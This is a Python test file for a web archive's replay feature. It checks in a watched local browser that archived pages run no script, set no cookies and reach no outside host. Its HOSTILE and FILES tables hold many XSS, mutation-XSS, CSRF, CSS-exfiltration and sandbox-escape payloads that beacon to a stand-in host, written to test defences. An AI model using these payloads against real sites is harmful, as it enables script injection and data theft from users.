"""Replay that can be trusted: all that a page can point with leads into the archive, and nothing
that a page can do is done. Seen in a browser whose every connection is watched."""

import asyncio
import re
from contextlib import suppress
from hashlib import md5
from urllib.parse import urlsplit

import pytest
from aiohttp import web
from playwright.async_api import Error

from archiver.config import Settings
from archiver.runtime import open_runtime
from archiver.web.app import build_app
from tests.browser import chromium
from tests.small_web.matter import look_the_same, pixels, png

BROWSERS_OWN = re.compile(r"google(apis)?\.com[:/]|gstatic\.com[:/]")
"""Chromium asks its makers for updates, whatever it is told."""
BIG = "width=40 height=20"
CONSTRUCTS = f"""<!DOCTYPE html><html lang=en><head><meta charset=utf-8>
<meta http-equiv="Content-Security-Policy" content="img-src 'none'; style-src 'none'">
<title>Everything</title>
<base href="OTHER/deep/">
<link rel=stylesheet href="/c/sheet.css" integrity="sha256-AAAA" nonce=abc crossorigin>
<link rel="alternate stylesheet" title=b href="/c/alternate.css">
<link rel=icon href="/c/icon.png"><link rel=apple-touch-icon href="/c/touch.png">
<link rel=manifest href="/c/manifest.json"><link rel=preload as=image href="/c/preload.png"
 imagesrcset="/c/preload2.png 2x"><link rel=modulepreload href="/c/module.js">
<link rel=prefetch href="/c/prefetch.html"><link rel=dns-prefetch href="//dns.away.example">
<link rel=preconnect href="http://connect.away.example"><link rel=prerender href="/c/prerender">
<link rel=pingback href="/c/pingback"><link rel=next href="/c/next">
<script src="/c/script.js"></script><script type=module src="/c/module.js"></script>
<script type=importmap>{{"imports": {{"x": "/c/mapped.js"}}}}</script>
<style nonce=abc>@import "/c/imported.css"; @import url(/c/imported2.css) screen;
@font-face {{ font-family: f; src: url("/c/font.woff2") }}
.a {{ background: u\\72l(/c/escaped.png) }} /* url(/c/comment.png) */
.b {{ background-image: image-set("/c/set1.png" 1x, url(/c/set2.png) 2x) }}
.c {{ background: -webkit-image-set(url(/c/set3.png) 1x) }}
.d {{ list-style: inside url( '/c/bullet.png' ); cursor: url(/c/cursor.png), auto }}
.e:hover {{ background: url(/c/hover.png) }}
video, audio {{ visibility: hidden }} /* what a player shows of what it can't play differs */
</style></head>
<body background="/c/background.png">
<p class=a>a</p><p class=b>b</p><p class=c>c</p><ul><li class=d>d</ul><p class=e id=hover>hover</p>
<img src="/c/image.png" {BIG} lowsrc="/c/low.png" longdesc="/c/long" usemap="#map" alt="">
<img srcset="/c/one.png 1x, /c/two.png 2x" {BIG} alt="">
<picture><source srcset="/c/source.png" media="(min-width: 1px)"><img src="/c/not.png" {BIG} alt="">
</picture><map name=map><area href="/c/area" shape=rect coords="0,0,9,9" ping="/c/ping"></map>
<p style="background: url('/c/styled.png'); color: #123">styled</p>
<video poster="/c/poster.png" src="/c/video.mp4" {BIG}></video>
<audio src="/c/audio.mp3"></audio><video {BIG}><source src="/c/video2.mp4"><track src="/c/t.vtt">
</video><input type=image src="/c/button.png" formaction="/c/formaction" {BIG} alt="">
<svg {BIG}><image href="/c/svg.png" {BIG} /><use xlink:href="/c/use.svg#x" />
<a xlink:href="/c/svglink"><text y=10>link</text></a><feImage href="/c/fe.png" /></svg>
<object data="/c/object.png" {BIG}></object><embed src="/c/embed.png" {BIG}>
<iframe src="/c/frame.html" {BIG}></iframe>
<iframe {BIG} srcdoc="<img src='/c/srcdoc.png' {BIG}><a href='/c/inside'>x</a>"></iframe>
<template><img src="/c/template.png"></template>
<noscript><img src="/c/noscript.png" {BIG} alt=""></noscript>
<table background="/c/table.png"><tr><td background="/c/cell.png">cell</table>
<blockquote cite="/c/cite"><q cite="/c/q">quoted</q></blockquote><del cite="/c/del">gone</del>
<form action="/c/form" method=post><button id=send formaction="/c/button">send</button></form>
<a id=link href="/c/link">link</a> <a id=blank href="/c/link" target=_blank ping="/c/ping">blank</a>
<a id=top href="http://away.example/" target=_top>top</a> <a id=mail href="mailto:a@b.example">m</a>
<a id=js href="javascript:document.title='ran'">js</a> <a id=hash href="#here">hash</a>
<a id=download href="/c/file.bin" download="../../etc/passwd">download</a></body></html>"""
SHEET = """@import 'nested.css'; body { color: rgb(10, 20, 30); background-color: #eef }
p { background: url(relative.png) no-repeat right }"""


class Web:
    """The live web: a page at ``/``, whatever is asked for below ``/c/``, and the hostile ones."""

    def __init__(self):
        self.origin = self.other = ""
        self.hits = []
        self.pages = {}
        self.more = {}
        """Header fields of every page."""
        self.heads = []
        """Of whatever a browser asked the watching proxy for."""
        self.heard = asyncio.Event()

    async def answer(self, request):
        self.hits.append(request.path_qs)
        name = request.path
        if name in self.pages:
            headers = {
                "Link": "</c/linked.css>; rel=preload; as=style",
                "Set-Cookie": "evil=1; Path=/",
                "Content-Security-Policy": "default-src 'none'",
                "Clear-Site-Data": '"*"',
                "Service-Worker-Allowed": "/",
                "Access-Control-Allow-Origin": "*",
                **self.more,
            }
            kind, body = self.pages[name]
            if isinstance(body, str):
                body = body.encode()
            return web.Response(body=body, headers=headers | {"Content-Type": kind})
        suffix = name.rpartition(".")[2]
        if suffix == "png":
            return web.Response(
                body=png(*md5(name.encode()).digest()[:3]), content_type="image/png"
            )
        if suffix == "css":
            text = SHEET if "sheet" in name else ""
            granted = {"Access-Control-Allow-Origin": "*"}
            return web.Response(text=text, content_type="text/css", headers=granted)
        if suffix == "html":
            return web.Response(text="<p>framed", content_type="text/html")
        raise web.HTTPNotFound


@pytest.fixture
async def world(tmp_path):
    """The live web, an archive that may capture it, its service, and a watching proxy."""
    live, strays = Web(), []

    async def stray(reader, writer):
        line = (await reader.readline()).decode("latin-1")
        if not BROWSERS_OWN.search(line):
            strays.append(line)
            with suppress(asyncio.IncompleteReadError):
                head = line + (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
                live.heads.append(head)
                live.heard.set()
        writer.close()

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", live.answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    port = runner.addresses[0][1]
    live.origin, live.other = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
    proxy = await asyncio.start_server(stray, "127.0.0.1", 0)
    settings = Settings(data=tmp_path / "data", allow_networks="127.0.0.0/8,::1/128", host_delay=0)
    async with open_runtime(settings) as runtime:
        served = web.AppRunner(build_app(runtime), access_log=None)
        await served.setup()
        await web.TCPSite(served, "127.0.0.1", 0).start()
        yield live, runtime, served.addresses[0][1], (proxy, strays)
        await served.cleanup()
    proxy.close()
    await runner.cleanup()


def watching(world, *, whole=False):
    """A browser that reaches the service; every other connection goes to the watcher."""
    _, _, port, (proxy, _) = world
    address = proxy.sockets[0].getsockname()
    return chromium(
        "--hide-scrollbars",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        f"--proxy-server=http://127.0.0.1:{address[1]}",
        f"--proxy-bypass-list=<-loopback>;127.0.0.1:{port}",
        whole=whole,
    )


@pytest.fixture
async def watched(world):
    async with watching(world) as browser:
        yield browser


@pytest.fixture
async def watched_with_viewer(world):
    """The whole browser: its viewer shows PDFs."""
    async with watching(world, whole=True) as browser:
        yield browser


async def keep(live, runtime, *paths):
    saved = await runtime.entries.save([live.origin + path for path in paths], source="test")
    await runtime.crawling.work()
    live.hits.clear()
    return [(await runtime.entries.get(each.hash_url)).entry for each in saved.accepted]


async def observed(browser, url):
    """A page that is looked at, and every request that it and what it opens make."""
    context = await browser.new_context(viewport={"width": 700, "height": 900})
    asked = []
    context.on("request", lambda request: asked.append(request.url))
    context.on("websocket", lambda socket: asked.append(socket.url))
    page = await context.new_page()
    await page.goto(url, wait_until="networkidle")
    return context, page, asked


def outside(asked, base, *ours):
    """Requests that went neither into the archive nor to the pages that show it."""
    own = (f"{base}/web/", f"{base}/static/", f"{base}/shown/")
    allowed = (*own, "data:", "about:", "mailto:", *ours)
    return [url for url in asked if not url.startswith(allowed)]


async def screenshot_of_the_live_page(url):
    async with chromium("--hide-scrollbars") as browser:
        context = await browser.new_context(
            java_script_enabled=False, bypass_csp=True, viewport={"width": 700, "height": 900}
        )
        page = await context.new_page()
        await page.goto(url, wait_until="networkidle")
        return await page.screenshot()


async def test_a_page_of_every_construct_leaves_the_archive_at_no_load_hover_or_click(
    world, watched
):
    live, runtime, port, (_, strays) = world
    base = f"http://127.0.0.1:{port}"
    live.pages["/"] = ("text/html", CONSTRUCTS.replace("OTHER", live.other))
    (entry,) = await keep(live, runtime, "/")
    url = f"{base}/web/{entry.latest}if_/{entry.url}"

    context, page, asked = await observed(watched, url)
    await page.locator("#hover").hover()
    names = ("send", "link", "blank", "top", "mail", "js", "hash", "download")
    for name in names:
        await page.locator(f"#{name}").click(force=True)
        await page.wait_for_load_state("networkidle")
        await page.goto(url, wait_until="networkidle")
    title = await page.title()
    await context.close()

    assert outside(asked, base) == []
    assert (live.hits, strays) == ([], [])
    assert title == "Everything"
    shown = {urlsplit(each).path.rpartition("/")[2] for each in asked}
    assert shown >= {
        "sheet.css", "nested.css", "relative.png", "imported.css", "imported2.css", "escaped.png",
        "background.png", "image.png", "source.png", "styled.png", "poster.png", "button.png",
        "svg.png", "object.png", "embed.png", "frame.html", "srcdoc.png", "table.png", "cell.png",
        "bullet.png", "hover.png", "noscript.png",
    }  # fmt: skip


async def test_a_page_of_every_construct_looks_as_it_did(world, watched):
    live, runtime, port, _ = world
    without_policy = CONSTRUCTS.replace('http-equiv="Content-Security-Policy"', "name=x")
    live.pages["/"] = (
        "text/html",
        without_policy.replace("OTHER", live.other).replace("integrity=", "data-was="),
    )
    (entry,) = await keep(live, runtime, "/")
    picture = await screenshot_of_the_live_page(entry.url)

    context, page, _ = await observed(
        watched, f"http://127.0.0.1:{port}/web/{entry.latest}if_/{entry.url}"
    )
    replayed = await page.screenshot()
    await context.close()

    assert look_the_same(replayed, picture)


AT_ONCE = 6
RUN = "document.title='ran';fetch('BEACON/run');new Image().src='BEACON/run'"
HOSTILE = {
    "scripts": f"""<script>{RUN}</script><script src=BEACON/s.js></script><body onload="{RUN}"
        onpageshow="{RUN}"><img src=x onerror="{RUN}"><svg onload="{RUN}"><script>{RUN}</script>
        <animate onbegin="{RUN}" attributeName=x dur=1s /></svg><details open ontoggle="{RUN}">x
        </details><input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>
        <math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>
        <template><script>{RUN}</script></template><noscript><p title="</noscript><img src=x
        onerror={RUN}>"></noscript><svg><style><!--</style><img src=x onerror="{RUN}">--></svg>""",
    "links": f"""<a id=click href="javascript:{RUN}">x</a><a href=" java&#10;script:{RUN}">y</a>
        <iframe src="javascript:{RUN}"></iframe><iframe src="data:text/html,<script>{RUN}</script>">
        </iframe><object data="data:text/html,<script>{RUN}</script>"></object><embed
        src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>">
        <iframe srcdoc="<script>{RUN}</script>"></iframe><form action="javascript:{RUN}"><button
        formaction="javascript:{RUN}">z</button></form><svg><a xlink:href="javascript:{RUN}">
        <text y=9>w</text></a></svg>""",
    "refresh": """<meta http-equiv=refresh content="0;url=BEACON/refresh"><meta http-equiv="Refresh"
        content="0; url=javascript:document.title='ran'"><meta http-equiv=set-cookie
        content="evil=2"><p>refresh""",
    "break-out": f"""<base target=_top><a id=click href=BEACON/top>x</a><script>top.location=
        'BEACON/top'</script><iframe src=BEACON/frame sandbox="allow-scripts allow-top-navigation
        allow-same-origin"></iframe><iframe name="{RUN}" src=//away.example></iframe>""",
    "posts": """<form id=f action=SERVICE/add method=post target=_top><input name=url
        value=BEACON/added><button id=click>x</button></form><form action="/logout" method=post>
        <button>y</button></form><img src=SERVICE/healthz><img src=SERVICE/api/v1/entries>
        <link rel=stylesheet href=SERVICE/static/x.css><iframe src=SERVICE/></iframe>
        <object data=SERVICE/snapshots></object><video src=SERVICE/metrics></video>""",
    "workers": f"""<script>navigator.serviceWorker.register('/web/sw.js');new Worker('BEACON/w.js');
        new SharedWorker('BEACON/w.js');{RUN}</script><script type=speculationrules>{{"prefetch":
        [{{"urls": ["BEACON/spec"]}}], "prerender": [{{"urls": ["BEACON/spec2"]}}]}}</script>
        <script type=importmap>{{"imports": {{"a": "BEACON/a.js"}}}}</script>""",
    "cookies": "<script>document.cookie='evil=3';localStorage.x=1;document.title='ran'</script>x",
    "phones-home": """<style>@import url(BEACON/i.css);@font-face{font-family:z;src:url(BEACON/f)}
        body{font-family:z;background:url(BEACON/bg)}input[value^="s"]{background:url(BEACON/attr)}
        @namespace url(BEACON/ns);a:visited{background:url(BEACON/v)}:root{--x:url(BEACON/var);
        cursor:url(BEACON/cur),auto}@media print{p{background:url(BEACON/print)}}</style><p
        style="background:var(--x)">p<input value=secret>""",
    "hints": """<link rel=prefetch href=BEACON/p><link rel=dns-prefetch href=//dns.away.example>
        <link rel=preconnect href=BEACON><link rel=prerender href=BEACON/pr><link rel="preload"
        as=script href=BEACON/pl><link rel=modulepreload href=BEACON/m><a href=x
        ping="BEACON/ping" id=click>x</a><img src=BEACON/i loading=lazy
        attributionsrc=BEACON/attribution><portal src=BEACON/portal></portal>""",
    "sockets": f"""<script>new WebSocket('ws://away.example/');new EventSource('BEACON/es');
        new RTCPeerConnection({{iceServers:[{{urls:'stun:away.example'}}]}}).createDataChannel('x');
        navigator.sendBeacon('BEACON/sb');{RUN}</script>x""",
}  # fmt: skip
FILES = {
    "/svg.svg": (
        "image/svg+xml",
        f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"
        onload="{RUN.replace("'", "&apos;")}"><script>{RUN}</script><image x:href="BEACON/svg" />
        <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:0" />
        </foreignObject><use href="BEACON/use#x" /></svg>""",
    ),
    "/xml.xml": (
        "application/xml",
        f"""<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="BEACON/x.xsl"?>
        <html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>""",
    ),
    "/xhtml": (
        "application/xhtml+xml",
        f"""<html xmlns="http://www.w3.org/1999/xhtml"><body onload="{RUN}"><script>
        <![CDATA[{RUN}]]></script><p>x</p></body></html>""",
    ),
    "/polyglot.gif": ("image/gif", f"GIF89a/*<html><script>{RUN}</script>*/=1;"),
    "/text.txt": ("text/plain", f"<html><script>{RUN}</script>"),
    "/octets": ("application/octet-stream", f"<!doctype html><script>{RUN}</script>"),
    "/parts": ("multipart/x-mixed-replace; boundary=b", f"--b\r\n\r\n<script>{RUN}</script>--b--"),
}


async def is_harmless(browser, base, entry, turns):
    """Look at a page in its banner, read it, and open its capture alone; click what there is."""
    snapshot = f"{base}/{entry.hash_url}/{entry.latest}/"
    read = f"{base}/{entry.hash_url}/"
    for url in (snapshot, read, f"{base}/web/{entry.latest}/{entry.url}"):
        async with turns:
            context, page, asked = await observed(browser, "about:blank")
            with suppress(Error):  # a download is no page
                await page.goto(url, wait_until="networkidle")
            for frame in page.frames[:2]:
                with suppress(Error):  # a frame may be gone by now, or have nothing to click
                    await frame.locator("#click").click(force=True, timeout=100)
            await page.wait_for_load_state("networkidle")
            titles = [await each.title() for each in page.frames if not each.is_detached()]
            cookies, workers = await context.cookies(), context.service_workers
            await context.close()
        assert outside(asked, base, snapshot, read) == [], entry.url
        assert "ran" not in titles, entry.url
        assert (cookies, workers) == ([], []), entry.url


async def test_hostile_pages_run_nothing_set_nothing_and_reach_nothing(world, watched):
    live, runtime, port, (_, strays) = world
    base = f"http://127.0.0.1:{port}"

    def armed(text):
        return text.replace("BEACON", f"{live.other}/beacon").replace("SERVICE", base)

    for name, body in HOSTILE.items():
        text = f"<!DOCTYPE html><title>calm</title><article><p>{'Words. ' * 60}</p>{body}</article>"
        live.pages[f"/{name}"] = ("text/html", armed(text))
    for path, (kind, body) in FILES.items():
        live.pages[path] = (kind.partition(";")[0], armed(body))
    entries = await keep(live, runtime, *live.pages)

    turns = asyncio.Semaphore(AT_ONCE)
    async with asyncio.TaskGroup() as group:
        for entry in entries:
            group.create_task(is_harmless(watched, base, entry, turns))

    assert live.hits == []
    assert strays == []
    assert (await runtime.crawling.counts()).open == 0


LEAKS = """<!DOCTYPE html><title>calm</title><meta name=referrer content=unsafe-url>
<meta http-equiv=refresh content="0; url=http://away.example/refresh">
<link rel=stylesheet href=http://away.example/s.css referrerpolicy=unsafe-url>
<img src=http://away.example/i.png referrerpolicy=unsafe-url><iframe referrerpolicy=unsafe-url
src=http://away.example/f></iframe><script>document.title='ran'</script>
<body onload="document.title='ran'"><p><a id=click href=http://away.example/clicked
referrerpolicy=unsafe-url>click</a><svg><a href=http://away.example/svg referrerpolicy=unsafe-url>
<text y=9>svg</text></a></svg>"""
TYPES = (
    "application/pdf, text/html",
    "text/html, application/pdf",
    "application/pdf",
    "application/pdf;, text/html;charset=utf-8",
    "text/html",
    "application/xhtml+xml",
    "*/*",
)


def pdf(link):
    """A page of colour that is a link from edge to edge."""
    parts = (
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Annots[5 0 R]>>",
        "<</Length 26>>stream\n0 0 1 rg 0 0 300 200 re f \nendstream",
        f"<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI({link})>>>>",
    )
    text, places = "%PDF-1.4\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(text))
        text += f"{number} 0 obj{part}endobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (
        f"{text}xref\n0 {len(parts) + 1}\n0000000000 65535 f \n{table}"
        f"trailer<</Size {len(parts) + 1}/Root 1 0 R>>\nstartxref\n{len(text)}\n%%EOF"
    )


@pytest.mark.parametrize("stored", [False, True], ids=["replayed", "as it was stored"])
async def test_no_page_runs_leaves_or_says_where_it_was_by_whatever_type_it_came(
    world, watched_with_viewer, stored
):
    live, runtime, port, (_, strays) = world
    base = f"http://127.0.0.1:{port}"
    live.more = {
        "Referrer-Policy": "unsafe-url",
        "Refresh": "0; url=http://away.example/header",
    }
    for number, kind in enumerate(TYPES):
        live.pages[f"/{number}"] = (kind, LEAKS)
    entries = await keep(live, runtime, *live.pages)

    turns = asyncio.Semaphore(AT_ONCE)

    async def is_still(entry):
        capture = (await runtime.entries.snapshot(entry.hash_url)).snapshot.capture
        modifier = "id_" if stored else ""
        url = f"{base}/web/{capture.timestamp}{modifier}/{capture.url}"
        async with turns:
            context, page, _ = await observed(watched_with_viewer, "about:blank")
            with suppress(Error):  # a download is no page
                await page.goto(url, wait_until="networkidle")
            assert await page.title() != "ran", url
            with suppress(Error):  # what is no page has nothing to click, what leaves no answer
                await page.locator("#click").click(force=True, timeout=500)
            await page.wait_for_load_state("networkidle")
            await context.close()

    async with asyncio.TaskGroup() as group:
        for entry in entries:
            group.create_task(is_still(entry))

    assert [line for line in strays if line and "away.example/clicked" not in line] == []
    assert [head for head in live.heads if "\r\nreferer:" in head.lower()] == []
    assert bool(live.heads) is stored, "only what is given as it was stored has a live link"
    assert live.hits == []


async def test_a_pdf_is_shown_and_its_link_does_not_say_where_it_was(world, watched_with_viewer):
    live, runtime, port, (_, strays) = world
    base = f"http://127.0.0.1:{port}"
    live.pages["/a.pdf"] = ("application/pdf", pdf("http://away.example/clicked"))
    (entry,) = await keep(live, runtime, "/a.pdf")
    capture = (await runtime.entries.snapshot(entry.hash_url)).snapshot.capture

    for url in (
        f"{base}/web/{capture.timestamp}/{capture.url}",
        f"{base}/{entry.hash_url}/",
        f"{base}/{entry.hash_url}/{entry.latest}/",
    ):
        context, page, _ = await observed(watched_with_viewer, url)
        box = await page.locator("iframe").bounding_box() if "/web/" not in url else None
        x, y = (box["x"] + box["width"] * 0.7, box["y"] + 150) if box else (500, 200)
        spot = {"x": x, "y": y, "width": 4, "height": 4}
        while pixels(await page.screenshot(clip=spot))[0][:3] != b"\x00\x00\xff":
            pass  # the viewer is an extension of the browser, whose loads are not heard
        live.heard.clear()
        while not live.heard.is_set():  # the first click may be only the viewer's focus
            await page.mouse.move(x - 5, y - 5)
            await page.mouse.click(x, y)
        await context.close()
        assert all("away.example/clicked" in line for line in filter(None, strays)), strays
        strays.clear()

    assert [head for head in live.heads if "\r\nreferer:" in head.lower()] == []
    assert live.hits == []
